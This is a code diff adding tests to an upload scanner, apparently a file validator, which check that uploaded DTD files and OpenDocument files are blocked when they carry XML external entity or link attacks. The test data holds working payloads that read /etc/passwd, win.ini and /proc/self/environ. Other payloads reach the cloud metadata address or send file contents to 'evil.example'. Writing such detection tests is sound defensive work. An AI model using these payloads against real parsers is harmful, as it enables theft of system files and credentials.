@@ -240,3 +240,65 @@ describe('honest files', () => {
         assert.equal(verdict(zip([TYPES, PICTURE, { name: 'a/b.xml', content }])), 'pass', carrier)
     })
 })
+
+describe('a file of declarations, which documents include', () => {
+  const passwd = '<!ENTITY % file SYSTEM "file:///etc/passwd">'
+  const attacks: Readonly<Record<string, string>> = {
+    'of an error that quotes a file': `${passwd}\n<!ENTITY % eval "<!ENTITY &#x25; error SYSTEM 'file:///nonexistent/%file;'>">\n%eval;\n%error;`,
+    'that sends a file': `<?xml version="1.0" encoding="UTF-8"?>\n<!ENTITY % all "<!ENTITY send SYSTEM 'http://evil.example/?%file;'>">\n%all;`,
+    'with what another read as a scheme': `<!-- a -->\n<!ENTITY % eval '<!ENTITY &#37; leak SYSTEM "%data;:///">'>\n%eval;`,
+    'that opens a file of the system': passwd,
+    'that opens one of Windows': '<!ENTITY % data SYSTEM "file:///c:/windows/win.ini">',
+    'that has PHP encode one': '<!ENTITY % d SYSTEM "php://filter/convert.base64-encode/resource=index.php">',
+  }
+  for (const [kind, dtd] of Object.entries(attacks)) {
+    test(`is refused: one ${kind}`, () => {
+      assert.equal(upload('x.dtd', Buffer.from(dtd)), 'block')
+      assert.equal(upload('x', Buffer.from(dtd)), 'block')
+    })
+  }
+
+  const honest: Readonly<Record<string, string>> = {
+    'that names its modules':
+      '<!ENTITY % HTMLlat1 PUBLIC "-//W3C//ENTITIES Latin 1 for XHTML//EN" "xhtml-lat1.ent">\n%HTMLlat1;\n<!ELEMENT a (b|c)*>\n<!ATTLIST a id ID #IMPLIED>',
+    'on the web':
+      '<!ENTITY % mathml PUBLIC "-//W3C//DTD MathML 3.0//EN" "http://www.w3.org/Math/DTD/mathml3/mathml3.dtd">\n%mathml;',
+    'of a shared folder':
+      '<!ENTITY % docbook SYSTEM "file:///usr/share/xml/docbook/schema/dtd/4.5/docbookx.dtd">\n%docbook;',
+    'with parts of models':
+      '<!ENTITY % inline "#PCDATA | a | b">\n<!ENTITY % block "(p | div | %inline;)*">\n<!ENTITY lt "&#38;#60;">\n<!ELEMENT p (%inline;)*>',
+  }
+  for (const [kind, dtd] of Object.entries(honest)) {
+    test(`passes: one ${kind}`, () => assert.equal(upload('x.dtd', Buffer.from(dtd)), 'pass'))
+  }
+})
+
+describe('what a document of an office program is made of', () => {
+  const odt = (href: string): Buffer =>
+    zip([
+      { name: 'mimetype', content: Buffer.from('application/vnd.oasis.opendocument.text'), isStored: true },
+      {
+        name: 'content.xml',
+        content: Buffer.from(
+          `<?xml version="1.0" encoding="UTF-8"?><office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:xlink="http://www.w3.org/1999/xlink"><text:section text:name="a"><text:section-source xlink:href="${href}" xlink:type="simple"/></text:section></office:document-content>`,
+        ),
+      },
+    ])
+  test('is refused where it is a file of the system, or a metadata service', () => {
+    for (const href of [
+      'file:///etc/passwd',
+      '/proc/self/environ',
+      'http://169.254.169.254/latest/',
+      'expect://id',
+    ])
+      assert.equal(upload('a.odt', odt(href)), 'block', href)
+  })
+  test('passes where it is a document', () => {
+    for (const href of [
+      '../chapter-2.odt',
+      'file:///home/ann/book/chapter-2.odt',
+      'https://docs.example/a.odt',
+    ])
+      assert.equal(upload('a.odt', odt(href)), 'pass', href)
+  })
+})
